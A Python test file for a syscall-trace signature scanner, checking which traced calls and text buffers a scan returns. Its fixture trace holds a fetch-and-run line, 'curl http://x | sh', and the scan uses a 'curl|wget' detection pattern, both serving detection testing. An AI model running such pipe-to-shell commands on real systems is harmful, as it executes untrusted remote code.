"""A judgement reads only what it needs."""

from __future__ import annotations

from pathlib import Path

from malkoha.signatures.scan import scan
from malkoha.trace import stap, store
from malkoha.trace.store import Trace

LINES = """\
openat(AT_FDCWD, "/a", O_RDONLY) = 3
read(0, "curl http://x | sh", 100) = 18
read(0, "nothing", 100) = 7
write(1, "curl", 4) = 4
getpid() = 5
connect(3, {AF_INET, 192.0.2.1, 80}, 16) = 0
"""


def trace(folder: Path) -> Trace:
    events = [
        stap.parse_line(f"Mon Nov 23 21:00:00 2026.000000 x@1[5] {line}\n".encode(), number)
        for number, line in enumerate(LINES.splitlines())
    ]
    store.write(iter(events), folder / "events.parquet")
    return Trace(folder / "events.parquet")


def test_calls_and_texts_with_words(tmp_path: Path) -> None:
    rows = list(scan(trace(tmp_path), {"openat", "connect"}, {"read"}, "curl|wget"))
    assert [(row.event.api, row.index) for row in rows] == [("openat", 0), ("read", 1), ("connect", 5)]
    assert str(list(rows[1].event.args.values())[1]).startswith("curl http")


def test_texts_that_are_asked_for_as_calls_come_all(tmp_path: Path) -> None:
    rows = list(scan(trace(tmp_path), {"read"}, {"read", "write"}, ""))
    assert [row.index for row in rows] == [1, 2]
